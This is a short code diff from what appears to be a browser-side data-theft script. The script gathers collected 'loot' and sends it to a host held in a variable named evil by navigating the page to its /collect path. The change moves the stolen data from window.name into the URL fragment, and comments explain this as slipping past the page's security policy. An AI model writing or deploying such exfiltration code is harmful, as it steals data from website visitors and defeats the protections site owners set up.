@@ -101,10 +101,8 @@
       return;
     }
     const loot = JSON.stringify(seen.filter(([place]) => place !== "document"));
-    document.documentElement.dataset.swept = String(seen.length);
-    /* No policy of the page forbids a top-level navigation; the loot travels in window.name, which has no limit of a URL. */
-    window.name = loot;
-    location.assign(`${evil}/collect`);
+    /* No policy of the page forbids a top-level navigation; the loot travels in the fragment. */
+    location.assign(`${evil}/collect#${encodeURIComponent(loot)}`);
   };
 
   let started = false;
